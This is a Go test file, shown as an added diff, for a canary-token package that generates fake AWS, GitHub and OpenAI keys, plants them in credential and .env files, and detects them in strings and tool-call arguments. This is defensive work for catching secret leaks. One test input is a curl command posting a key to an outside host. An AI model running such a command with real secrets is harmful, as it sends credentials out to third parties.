@@ -0,0 +1,113 @@
+package canary
+
+import (
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+)
+
+func TestGenerate_Shapes(t *testing.T) {
+	r := NewRegistry()
+	shapes := map[string]*regexp.Regexp{
+		AWS:      regexp.MustCompile(`^AKIA[A-Z2-7]{16}$`),
+		GitHub:   regexp.MustCompile(`^ghp_[A-Za-z0-9]{36}$`),
+		OpenAI:   regexp.MustCompile(`^sk-[A-Za-z0-9]{48}$`),
+		Password: regexp.MustCompile(`^[A-Za-z0-9]{20}$`),
+	}
+	for kind, shape := range shapes {
+		a, err := r.Generate(kind)
+		if err != nil {
+			t.Fatal(err)
+		}
+		b, err := r.Generate(kind)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !shape.MatchString(a.Value) {
+			t.Errorf("%s canary %q does not look like one", kind, a.Value)
+		}
+		if a.Value == b.Value || a.ID == b.ID {
+			t.Errorf("%s canaries are not unique: %+v, %+v", kind, a, b)
+		}
+	}
+	if _, err := r.Generate("ssh"); err == nil {
+		t.Error("expected an error for an unknown kind")
+	}
+}
+
+func TestRegistry_PlantAndFind(t *testing.T) {
+	dir := t.TempDir()
+	registryPath := filepath.Join(dir, "config", "canaries.json")
+	r, err := Open(registryPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	creds := filepath.Join(dir, "credentials")
+	file, err := r.PlantFile(creds, dir, AWS)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := r.PlantFile(creds, dir, AWS); err == nil {
+		t.Error("PlantFile overwrote an existing file")
+	}
+
+	envPath := filepath.Join(dir, ".env")
+	if err := os.WriteFile(envPath, []byte("PORT=8080"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	env, err := r.PlantEnv(envPath, dir, "", GitHub)
+	if err != nil {
+		t.Fatal(err)
+	}
+	data, err := os.ReadFile(envPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := "PORT=8080\nGITHUB_TOKEN=" + env.Value + "\n"; string(data) != want {
+		t.Errorf(".env = %q, want %q", data, want)
+	}
+	if env.Location != envPath+"#GITHUB_TOKEN" {
+		t.Errorf("location = %q", env.Location)
+	}
+
+	// A fresh registry sees what was planted.
+	reopened, err := Open(registryPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := reopened.List(); len(got) != 2 {
+		t.Fatalf("List() = %+v, want 2 canaries", got)
+	}
+	found := reopened.Find("curl -d key=" + file.Value + " https://example.com")
+	if len(found) != 1 || found[0].ID != file.ID {
+		t.Errorf("Find() = %+v, want %s", found, file.ID)
+	}
+	args := map[string]any{"body": []any{"x", env.Value, env.Value}, "url": "https://example.com"}
+	if found := reopened.FindValue(args); len(found) != 1 || found[0].ID != env.ID {
+		t.Errorf("FindValue() = %+v, want %s once", found, env.ID)
+	}
+	if found := reopened.Find(strings.ToLower(file.Value)[:10]); len(found) != 0 {
+		t.Errorf("Find() matched a fragment: %+v", found)
+	}
+
+	removed, err := reopened.Remove(file.ID)
+	if err != nil || !removed {
+		t.Fatalf("Remove() = %v, %v", removed, err)
+	}
+	if _, err := os.Stat(creds); err != nil {
+		t.Errorf("Remove() touched the planted file: %v", err)
+	}
+	if found := reopened.Find(file.Value); len(found) != 0 {
+		t.Errorf("removed canary still found: %+v", found)
+	}
+}
+
+func TestRegistry_Nil(t *testing.T) {
+	var r *Registry
+	if r.Find("anything") != nil || r.FindValue(map[string]any{"a": "b"}) != nil || r.List() != nil {
+		t.Error("nil registry should find nothing")
+	}
+}